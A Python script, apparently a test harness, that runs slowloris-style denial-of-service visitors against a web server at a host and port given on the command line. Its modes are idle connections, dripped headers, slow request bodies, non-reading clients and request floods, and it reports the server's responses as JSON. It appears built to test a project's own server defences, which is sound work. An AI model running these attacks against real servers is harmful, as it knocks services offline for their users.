"""Hostile visitors in a process of their own: `python hostile.py KIND HOST PORT SOURCE COUNT SECONDS`.

They come from one address of this machine, and end by themselves. What happened to them is printed
as JSON: how many connections were opened, answered (by status), refused at the gate and hung up on.
"""

import asyncio
import json
import sys
import time
from collections import Counter
from contextlib import suppress

BOOK = "/rules/colonists_invasion?print=1"
SEARCH = "/rules/colonists_invasion?q=a"


async def attack(kind: str, host: str, port: int, source: str, count: int, seconds: float) -> Counter[str]:
    """Do it with so many visitors at once, for so long."""
    seen: Counter[str] = Counter()
    end = time.monotonic() + seconds
    visit = {"idle": _idle, "head": _slow_head, "body": _slow_body, "deaf": _deaf}.get(kind)
    if visit is not None:
        visits = [visit(host, port, source, end, seen) for _ in range(count)]
    else:
        path = {"book": BOOK, "search": SEARCH}.get(kind, kind)
        visits = [_read(host, port, source, end, seen, path) for _ in range(count)]
    await asyncio.gather(*visits)
    return seen


async def _open(
    host: str, port: int, source: str, seen: Counter[str]
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    pair = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=(source, 0)), 20)
    seen["opened"] += 1
    return pair


async def _hold(reader: asyncio.StreamReader, end: float, seen: Counter[str]) -> None:
    """Wait until the other side hangs up, or it is time to go."""
    try:
        told = await asyncio.wait_for(reader.read(100), max(0.0, end - time.monotonic()))
    except TimeoutError:
        seen["held to the end"] += 1
        return
    seen[f"told {told.split(b' ')[1].decode()}" if told.startswith(b"HTTP/1.1 ") else "hung up on"] += 1


async def _idle(host: str, port: int, source: str, end: float, seen: Counter[str]) -> None:
    """Open a connection and say nothing; when it is closed, open the next."""
    while time.monotonic() < end:
        try:
            reader, writer = await _open(host, port, source, seen)
            try:
                await _hold(reader, end, seen)
            finally:
                writer.close()
        except (OSError, TimeoutError):
            seen["no connection"] += 1
        await asyncio.sleep(0.5)


async def _slow_head(host: str, port: int, source: str, end: float, seen: Counter[str]) -> None:
    """Send a head that never ends, a few letters at a time."""
    await _drip(host, port, source, end, seen, b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"X-a: b\r\n")


async def _slow_body(host: str, port: int, source: str, end: float, seen: Counter[str]) -> None:
    """Announce a body and send it letter by letter."""
    head = b"POST /api/tables HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    await _drip(host, port, source, end, seen, head + b"Content-Length: 60000\r\n\r\n", b" ")


async def _drip(
    host: str, port: int, source: str, end: float, seen: Counter[str], first: bytes, then: bytes
) -> None:
    while time.monotonic() < end:
        try:
            reader, writer = await _open(host, port, source, seen)
            writer.write(first)
            holding = asyncio.create_task(_hold(reader, end, seen))
            while not holding.done():
                await asyncio.sleep(0.5)
                writer.write(then)
            await holding
            writer.close()
        except (OSError, TimeoutError):
            seen["no connection"] += 1
        await asyncio.sleep(0.5)


async def _deaf(host: str, port: int, source: str, end: float, seen: Counter[str]) -> None:
    """Ask for large pages and read nothing of them."""
    with suppress(OSError, TimeoutError):
        reader, writer = await _open(host, port, source, seen)
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(f"GET {BOOK} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 20)
        while time.monotonic() < end:
            await asyncio.sleep(0.5)
        writer.close()


async def _read(host: str, port: int, source: str, end: float, seen: Counter[str], path: str) -> None:
    """Ask for a page again and again, as fast as it comes."""
    request = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
    while time.monotonic() < end:
        try:
            reader, writer = await _open(host, port, source, seen)
            writer.write(request)
            told = await asyncio.wait_for(reader.read(-1), 60)
            seen[told.split(b" ")[1].decode() if told.startswith(b"HTTP/1.1 ") else "nothing"] += 1
            writer.close()
        except (OSError, TimeoutError, IndexError):
            seen["no connection"] += 1


def main() -> None:
    """Attack as the command line says."""
    kind, host, port, source, count, seconds = sys.argv[1:7]
    print(json.dumps(asyncio.run(attack(kind, host, int(port), source, int(count), float(seconds)))))


if __name__ == "__main__":
    main()
